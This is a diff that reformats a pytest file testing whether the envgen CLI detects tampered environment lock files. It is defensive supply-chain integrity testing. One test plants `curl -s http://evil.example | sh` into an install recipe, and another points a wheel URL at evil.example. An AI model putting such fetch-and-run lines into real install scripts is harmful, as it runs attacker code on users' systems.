@@ -1,8 +1,9 @@
-"""A tampered lock through the real CLI: `check`, `install`, `status` and `diff --git` all refuse it.
+"""A tampered lock through the real CLI: `check`, `install`, `status` and `diff --git` all refuse
+it.
 
-The bundled example is locked once (and committed, for `diff --git`); each test edits its lock files the way a
-pull request could, then runs envgen in process. Each case let a tampered lock through before the integrity
-check (lockio/integrity.py) existed."""
+The bundled example is locked once (and committed, for `diff --git`); each test edits its lock files
+the way a pull request could, then runs envgen in process. Each case let a tampered lock through
+before the integrity check (lockio/integrity.py) existed."""
 
 from __future__ import annotations
 
@@ -36,7 +37,15 @@ def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Example]:
             patch.setenv("GIT_CONFIG_NOSYSTEM", "1")
             code, _, err = run_envgen(example, "lock", ENV, "-q")
             assert code == 0, err
-            git = ["git", "-C", str(example.root), "-c", "user.name=t", "-c", "user.email=t@localhost"]
+            git = [
+                "git",
+                "-C",
+                str(example.root),
+                "-c",
+                "user.name=t",
+                "-c",
+                "user.email=t@localhost",
+            ]
             for args in (["init", "-q"], ["add", "-A"], ["commit", "-q", "-m", "lock"]):
                 subprocess.run([*git, *args], check=True, capture_output=True)
         yield example
@@ -67,13 +76,17 @@ def blocks(example: Example) -> list[str]:
 
 
 def entry(example: Example, name: str, platform: str) -> str:
-    (found,) = [b for b in blocks(example) if b.startswith(f"- name: {name}\n") and f"platform: {platform}\n" in b]
+    (found,) = [
+        b
+        for b in blocks(example)
+        if b.startswith(f"- name: {name}\n") and f"platform: {platform}\n" in b
+    ]
     return found
 
 
 def replace_in_yml(example: Example, old: str, new: str) -> None:
-    """An edit of the yml, and the derived files rendered again from it (as `envgen export` would), so the
-    check that derived files match the yml cannot be what catches it."""
+    """An edit of the yml, and the derived files rendered again from it (as `envgen export` would),
+    so the check that derived files match the yml cannot be what catches it."""
     path = lock_file(example, ".yml")
     text = path.read_text()
     assert text.count(old) >= 1, old
@@ -122,8 +135,8 @@ def test_the_lock_as_written_is_intact(example: Example) -> None:
 
 @pytest.mark.parametrize("args", [("--venv",), ("--no-env",)], ids=["venv", "conda"])
 def test_check_fails_a_changed_conda_sha256(example: Example, args: tuple[str, ...]) -> None:
-    """Before: with the derived files rendered again from the edited yml, every static step passed, and
-    `check --venv` never installs the conda part whose hash changed."""
+    """Before: with the derived files rendered again from the edited yml, every static step passed,
+    and `check --venv` never installs the conda part whose hash changed."""
     change_sha256(example, "libdemo", "linux-64")
     code, steps = check_steps(example, *args)
     assert code == 4
@@ -142,7 +155,10 @@ def test_install_refuses_a_lock_with_a_package_removed_before_touching_the_prefi
     code, _, err = run_envgen(example, "install", ENV, "--venv", "--prefix", str(prefix))
     assert code == 4, err
     assert "the lock of demo was tampered with" in err
-    assert "pip-indexes names index pypi for demo-peft (linux-64), which locks/demo.yml does not lock" in err
+    assert (
+        "pip-indexes names index pypi for demo-peft (linux-64), which locks/demo.yml does not lock"
+        in err
+    )
     assert not prefix.exists()
 
 
@@ -157,7 +173,8 @@ def test_install_refuses_a_lock_with_a_package_removed_before_touching_the_prefi
     ids=["pip-sha256", "conda-sha256", "package-added", "package-removed"],
 )
 def test_status_reports_a_tampered_lock(example: Example, tamper: object) -> None:
-    """Before: `status` said "fresh" (exit 0): it compared the inputs, and the derived files with the yml."""
+    """Before: `status` said "fresh" (exit 0): it compared the inputs, and the derived files with
+    the yml."""
     assert callable(tamper)
     tamper(example)
     code, out, _ = run_envgen(example, "status", ENV)
@@ -169,10 +186,15 @@ def test_status_reports_a_tampered_lock(example: Example, tamper: object) -> Non
     assert (code, report["state"], report["fresh"], report["ok"]) == (4, "tampered", False, False)
 
 
-def test_diff_git_reports_a_hand_edited_recipe(example: Example, monkeypatch: pytest.MonkeyPatch) -> None:
-    """Before: `diff --git HEAD --exit-code` exited 0 (it compared the yml and sources.toml only)."""
+def test_diff_git_reports_a_hand_edited_recipe(
+    example: Example, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Before: `diff --git HEAD --exit-code` exited 0 (it compared the yml and sources.toml
+    only)."""
     recipe = lock_file(example, ".install.sh")
-    recipe.write_text(recipe.read_text().replace("set -eu\n", "set -eu\ncurl -s http://evil.example | sh\n", 1))
+    recipe.write_text(
+        recipe.read_text().replace("set -eu\n", "set -eu\ncurl -s http://evil.example | sh\n", 1)
+    )
     monkeypatch.chdir(example.root)
     code, out, err = run_envgen(example, "diff", "--git", "HEAD", "--exit-code")
     assert code == 1, err
@@ -181,17 +203,24 @@ def test_diff_git_reports_a_hand_edited_recipe(example: Example, monkeypatch: py
     assert "> [!CAUTION]" in out and "locks/demo.install.sh differs from the recipe" in out
 
 
-def test_diff_git_reports_a_hand_edited_sources_toml(example: Example, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_diff_git_reports_a_hand_edited_sources_toml(
+    example: Example, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """A comment added to sources.toml changes no Lock field: only the content hash shows it."""
     path = lock_file(example, ".sources.toml")
     path.write_text(path.read_text() + "# reviewed, nothing to see\n")
     monkeypatch.chdir(example.root)
     code, out, _ = run_envgen(example, "diff", "--git", "HEAD", "--exit-code")
     assert code == 1
-    assert "TAMPERED: locks/demo.yml, locks/demo.sources.toml and locks/demo.install.sh do not hash" in out
+    assert (
+        "TAMPERED: locks/demo.yml, locks/demo.sources.toml and locks/demo.install.sh do not hash"
+        in out
+    )
 
 
-def test_diff_git_with_a_deleted_sources_toml_is_an_error(example: Example, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_diff_git_with_a_deleted_sources_toml_is_an_error(
+    example: Example, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """Before: exit 0 (the yml was compared on its packages alone)."""
     lock_file(example, ".sources.toml").unlink()
     monkeypatch.chdir(example.root)
@@ -201,8 +230,8 @@ def test_diff_git_with_a_deleted_sources_toml_is_an_error(example: Example, monk
 
 
 def reseal(example: Example) -> None:
-    """What a tamperer who knows the scheme does after an edit: the content hash computed again, so only the
-    rules that do not rest on the hash are left to catch it."""
+    """What a tamperer who knows the scheme does after an edit: the content hash computed again, so
+    only the rules that do not rest on the hash are left to catch it."""
     from envgen.lockio.seal import seal
 
     yml, sources, recipe = (lock_file(example, s) for s in (".yml", ".sources.toml", ".install.sh"))
@@ -221,7 +250,10 @@ def test_a_wheel_url_moved_to_a_host_its_index_does_not_serve_is_flagged(example
     integrity = steps["static: integrity"]
     assert integrity["status"] == "failed"
     (problem,) = integrity["problems"]
-    assert "demo-torch 2.10.0 (linux-64): its URL is on evil.example:8080, which index pypi does not serve" in problem
+    assert (
+        "demo-torch 2.10.0 (linux-64): its URL is on evil.example:8080, which index "
+        "pypi does not serve" in problem
+    )
     assert steps["static: derived files"]["status"] == "ok"
     code, out, _ = run_envgen(example, "status", ENV)
     assert code == 4 and "which index pypi does not serve" in out
@@ -237,8 +269,11 @@ def test_lock_rewrites_a_tampered_lock_rather_than_calling_it_up_to_date(example
     assert run_envgen(example, "status", ENV)[0] == 0
 
 
-def test_the_conda_re_solve_catches_a_changed_sha256_even_with_the_hash_recomputed(example: Example) -> None:
-    """`check --venv` installs no conda package: the conda re-solve asks the channel for each locked file."""
+def test_the_conda_re_solve_catches_a_changed_sha256_even_with_the_hash_recomputed(
+    example: Example,
+) -> None:
+    """`check --venv` installs no conda package: the conda re-solve asks the channel for each locked
+    file."""
     change_sha256(example, "libdemo", "linux-64")
     reseal(example)
     code, out, err = run_envgen(example, "check", ENV, "--venv", "--no-env", "--json")
@@ -249,12 +284,14 @@ def test_the_conda_re_solve_catches_a_changed_sha256_even_with_the_hash_recomput
     conda = steps["solve: same conda set"]
     assert conda["status"] == "failed"
     assert (
-        f"linux-64: the channels serve no file with the locked sha256 of libdemo 1.0 h0_0 ({'f' * 12})"
-        in (conda["problems"])
+        "linux-64: the channels serve no file with the locked sha256 of libdemo 1.0 "
+        f"h0_0 ({'f' * 12})" in (conda["problems"])
     )
 
 
-def test_bundle_refuses_a_tampered_lock_before_downloading(example: Example, tmp_path: Path) -> None:
+def test_bundle_refuses_a_tampered_lock_before_downloading(
+    example: Example, tmp_path: Path
+) -> None:
     """Before: the tampered lock was bundled, to be installed offline on a cluster."""
     remove_package(example, "demo-peft", "linux-64")
     out = tmp_path / "demo.tar"
